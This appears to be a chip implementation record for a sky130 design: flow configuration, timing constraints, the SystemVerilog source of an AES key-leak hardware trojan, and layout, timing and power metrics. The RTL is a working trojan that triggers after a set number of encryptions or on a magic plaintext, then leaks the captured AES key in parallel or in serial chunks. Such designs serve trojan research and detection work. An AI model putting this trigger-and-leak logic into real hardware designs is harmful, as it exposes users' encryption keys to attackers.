### Metal layers overlaid

Scale: 1.5 px per um.

### Clock nets


### The metal 3 layer

Scale: 3 px per um.

## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = aes_key_leak_trojan_v2
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/aes_key_leak_trojan_v2.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_AREA = 2 2 167 169
export CTS_CLUSTER_SIZE = 14
export DETAILED_ROUTE_END_ITERATION = 7
export DIE_AREA = 0 0 169 171
export PLACE_DENSITY = 0.67
export RECOVER_POWER = 25
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name clk -period 3.5 [get_ports clk]
set_clock_uncertainty 0.1 [all_clocks]
set_input_delay 0.35 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.35 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
```

## src/rtl/aes_key_leak_trojan_v2.sv

```systemverilog
// Key-leak trigger block for an AES core.
//
// Counts completed encryptions (rising edges of cipher_out_valid) and, once the
// count reaches THRESHOLD or an optional magic plaintext is seen, captures the
// live key. The captured key is then exposed either in parallel (LEAK_MODE=0)
// or as MSB-first SER_W-bit chunks over a valid/ready handshake (LEAK_MODE=1).
//
// Ports:
//   clk, rst_n        - clock, asynchronous active-low reset
//   cipher_out_valid  - AES output-valid level; each rising edge is one encryption
//   cipher_in_valid   - plaintext-valid strobe qualifying data_in
//   data_in           - plaintext, compared against MAGIC
//   key_in            - live AES key, captured on the trigger edge
//   enc_count_o       - saturating encryption count
//   trojan_triggered  - high once triggered, until reset
//   leaked_key_o      - captured key (parallel mode only), else 0
//   leak_data_o       - current serial chunk, 0 outside the shift phase
//   leak_valid_o      - serial chunk valid
//   leak_ready_i      - serial chunk accepted by the sink
//   leak_done_o       - all serial chunks delivered
module aes_key_leak_trojan_v2 #(
    parameter int unsigned      KEY_W     = 128,
    parameter int unsigned      CNT_W     = 32,
    parameter int unsigned      THRESHOLD = 1000,
    parameter int unsigned      LEAK_MODE = 0,
    parameter int unsigned      SER_W     = 8,
    parameter int unsigned      MAGIC_EN  = 0,
    parameter logic [KEY_W-1:0] MAGIC     = '0
) (
    input  logic             clk,
    input  logic             rst_n,
    input  logic             cipher_out_valid,
    input  logic             cipher_in_valid,
    input  logic [KEY_W-1:0] data_in,
    input  logic [KEY_W-1:0] key_in,
    output logic [CNT_W-1:0] enc_count_o,
    output logic             trojan_triggered,
    output logic [KEY_W-1:0] leaked_key_o,
    output logic [SER_W-1:0] leak_data_o,
    output logic             leak_valid_o,
    input  logic             leak_ready_i,
    output logic             leak_done_o
);

    localparam int unsigned      NCHUNK   = KEY_W / SER_W;
    localparam int unsigned      IDX_W    = (NCHUNK > 1) ? $clog2(NCHUNK) : 1;
    localparam logic [CNT_W-1:0] THRESH_C = CNT_W'(THRESHOLD);
    localparam logic [CNT_W-1:0] THRESH_M = CNT_W'(THRESHOLD - 1);
    localparam logic [IDX_W-1:0] LAST_IDX = IDX_W'(NCHUNK - 1);

    typedef enum logic [1:0] {StArmed, StShift, StHold} state_e;

    state_e             state_q, state_d;
    logic               valid_prev_q;
    logic [CNT_W-1:0]   cnt_q, cnt_d;
    logic [KEY_W-1:0]   key_q, key_d;
    logic [IDX_W-1:0]   idx_q, idx_d;

    logic armed;
    logic count_event;
    logic count_fire;
    logic magic_fire;
    logic trigger;
    logic accept;

    assign armed       = (state_q == StArmed);
    assign count_event = cipher_out_valid & ~valid_prev_q;
    assign count_fire  = armed & count_event & (cnt_q == THRESH_M);
    assign magic_fire  = (MAGIC_EN != 0) & armed & cipher_in_valid & (data_in == MAGIC);
    // Count and magic hitting together still yield a single trigger.
    assign trigger     = count_fire | magic_fire;
    assign accept      = (state_q == StShift) & leak_ready_i;

    // State register and datapath.
    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) begin
            state_q      <= StArmed;
            valid_prev_q <= 1'b0;
            cnt_q        <= '0;
            key_q        <= '0;
            idx_q        <= '0;
        end else begin
            state_q      <= state_d;
            valid_prev_q <= cipher_out_valid;
            cnt_q        <= cnt_d;
            key_q        <= key_d;
            idx_q        <= idx_d;
        end
    end

    // Next-state logic.
    always_comb begin
        state_d = state_q;
        unique case (state_q)
            StArmed: begin
                if (trigger) begin
                    state_d = (LEAK_MODE != 0) ? StShift : StHold;
                end
            end
            StShift: begin
                if (accept && (idx_q == LAST_IDX)) begin
                    state_d = StHold;
                end
            end
            StHold:  state_d = StHold;
            default: state_d = StArmed;
        endcase
    end

    always_comb begin
        cnt_d = cnt_q;
        key_d = key_q;
        idx_d = idx_q;
        // Saturate at THRESHOLD; counting only happens while armed.
        if (armed && count_event && (cnt_q != THRESH_C)) begin
            cnt_d = cnt_q + CNT_W'(1);
        end
        if (trigger) begin
            key_d = key_in;
        end
        if (accept && (idx_q != LAST_IDX)) begin
            idx_d = idx_q + IDX_W'(1);
        end
    end

    // Outputs.
    always_comb begin
        enc_count_o      = cnt_q;
        trojan_triggered = (state_q != StArmed);
        leaked_key_o     = '0;
        leak_valid_o     = (state_q == StShift);
        leak_data_o      = '0;
        leak_done_o      = (LEAK_MODE != 0) && (state_q == StHold);
        if ((LEAK_MODE == 0) && trojan_triggered) begin
            leaked_key_o = key_q;
        end
        if (state_q == StShift) begin
            // Chunk 0 is the most significant slice of the key.
            for (int unsigned i = 0; i < NCHUNK; i++) begin
                if (idx_q == IDX_W'(i)) begin
                    leak_data_o = key_q[KEY_W-1-i*SER_W -: SER_W];
                end
            end
        end
    end

endmodule

```

==> flow_metrics.env <==
# yosys + openroad results
export IMPL_endpoint_of_the_most_critical_setup_path="leaked_key_o[23]"
export IMPL_critical_path_slowest_cell="sky130_fd_sc_hd__clkdlybuf4s50_1"
export IMPL_most_congested_layer_reported_by_global_routing="met2"
export IMPL_cp_buf_inv_count=2
export IMPL_antenna_violations_before_repair=0
export IMPL_non_clock_buffer_area_share=0.268
export IMPL_maxUsedRoutingLayer="met4"
export IMPL_n_all_inverters=5
export IMPL_dr_wl_met2_mm=8.50
export IMPL_syn_mean_instance_area_um2=12.8
export IMPL_dr_wl_met3_mm=1.79
export IMPL_maximum_buffer_depth_of_the_clock_tree=2
export IMPL_yosys_register_bits=162
export IMPL_synthDistinctLibCells=36
export IMPL_critical_path_max_fanout=100
export IMPL_slowest_delay_ns=0.69
export IMPL_synthesis_area_um2=7340
export IMPL_ys_sh_aoi=0.00102
export IMPL_maxSlewViolCount=0
export IMPL_core_area_um2=27300
export IMPL_drive_above_1_share=0.206
export IMPL_max_freq_mhz=353
export IMPL_most_common_cell="sky130_fd_sc_hd__dfrtp_1"
export IMPL_whs_path_depth=1
export IMPL_final_period_minus_worst_setup_slack_ns=2.83
export IMPL_area_share_clock_buf_inv=0.0520
export IMPL_clock_root_buffer="sky130_fd_sc_hd__clkbuf_16"
export IMPL_path_cells="buf_12, and2_1, clkdlybuf4s50_1"
export IMPL_path_clk_slew_ns=0.07
export IMPL_xor_share=0.0358
export IMPL_n_all_buffers=297
export IMPL_regToRegSetupSlack_ns=0.76
export IMPL_grt_setup_unrepaired="no"
export IMPL_ant_nets=0
export IMPL_critical_path_startpoint_category="register"
export IMPL_grt_pass1_vias=5113
export IMPL_share_of_the_core_filled_by_cells_before_placement=0.269
export IMPL_post_synthesis_async_set_or_reset_flop_share=1.00
export IMPL_htree_num_levels=4
export IMPL_leakage_nw=5.00
export IMPL_design_die_area_um2=28900
export IMPL_mostFrequentLayoutCells="sky130_fd_sc_hd__clkdlybuf4s50_1, sky130_fd_sc_hd__dfrtp_1, sky130_fd_sc_hd__mux2_2"
export IMPL_insertedDiodeCount=0
export IMPL_cp_startpoint="state_q[1]"
export IMPL_cts_repair_timing_setup_buffer_count=0
export IMPL_rows=61
export IMPL_data_arrival_time_of_the_worst_path_ns=2.38
export IMPL_synth_yosys_chip_area_um2=7340
export IMPL_ys_top_logic_family="multiplexers"
export IMPL_reg2reg_to="key_q[77]"
export IMPL_crit_cells=3
export IMPL_critical_path_top_delay_family="buffers and inverters"
export IMPL_area_share_sequential=0.363
export IMPL_cts_tree="built"
export IMPL_finalNonFillerCells=1219
export IMPL_num_nets_final=1123
export IMPL_dpl_hpwl_mm=13.0
export IMPL_synth_largest_area_cell="sky130_fd_sc_hd__dfrtp_1"
export IMPL_yosysWarningCount=0
export IMPL_synth_sequential_area_ratio=0.552
export IMPL_ir_worst_vdd_v=0.000231
export IMPL_grt_pass1_wl_mm=29.1
export IMPL_simple_gate_share=0.175
export IMPL_report_power_total_mw=4.34
export IMPL_drt_pass1_iterations=4
export IMPL_cp_data_required_time_ns=3.05
export IMPL_i_o_pin_cnt=432
export IMPL_maxCapViolCount=0
export IMPL_worstSetupEndpointType="output pin"
export IMPL_log_warnings=161
export IMPL_postCtsResizedCells=0
export IMPL_maxSlewHeadroom=0.156
export IMPL_yosys_area_share_adder=0.00341
export IMPL_drt_drc_violations_left=0
export IMPL_n_fill_cell=2641
export IMPL_grt_start_max_net_pins=101
export IMPL_most_area_consuming_cells_after_synthesis="sky130_fd_sc_hd__dfrtp_1, sky130_fd_sc_hd__mux2_2, sky130_fd_sc_hd__and2_1"
export IMPL_post_synth_top_area_fraction=0.552
export IMPL_finalSetupTns_ns=0
export IMPL_timing_setup_critical_path_class="reg -> out"
export IMPL_status="finished clean"
About 'Metal layers overlaid':
- metal 2: yellow (wire length 8500 um)
- metal 3: purple (wire length 1790 um)
- metal 1: green (wire length 8630 um)
- metal 4: cyan (wire length 186 um)
Wirelength per Cell: 15.7 um
gr usage total: 0.129
Routed WL: 19.1 mm

About 'Clock nets':
total number of clock tree sinks: 162
FFs & Latches: 162
clock buffers: 17
number of clock buffers inserted by TritonCTS: 17
clock group power: 1.88 mW

About 'The metal 3 layer':
- longest straight run: 38.4 um
- nets with wire on the layer: 198
- main direction: horizontal
- share of all routed wire: 9.4%
- wire length on this layer: 1790 um
met3 track utilization from global routing: 0.0551
vias: 5236

[flip-flops by register name, indices dropped and copies added (netlist names)]
register / count
key_q: 128
enc_count_o: 32
state_q: 1
valid_prev_q: 1
[per-stage QoR]
step           area [um^2]  setup slack, ns
2_1_floorplan         7380             1.10
3_3_place_gp         10600            0.586
3_5_place_dp         10600            0.556
4_1_cts              11200            0.604
5_1_grt              11200            0.506
6_report             11200            0.666
[power by group]
| group | internal, mW | total, mW | switching, mW | leakage (nW) |
|---|---|---|---|---|
| registers | 1.91 | 1.99 | 0.0759 | 2.23 |
| clock network | 0.959 | 1.88 | 0.920 | 0.288 |
| logic | 0.247 | 0.477 | 0.230 | 2.49 |
[what timing repair did]
action	CTS	global route
endpoints found under the hold margin	17	0
setup endpoints to repair	0	0
hold buffers	1	0
Power figures rest on the tool's default switching activity, not on a simulated workload.
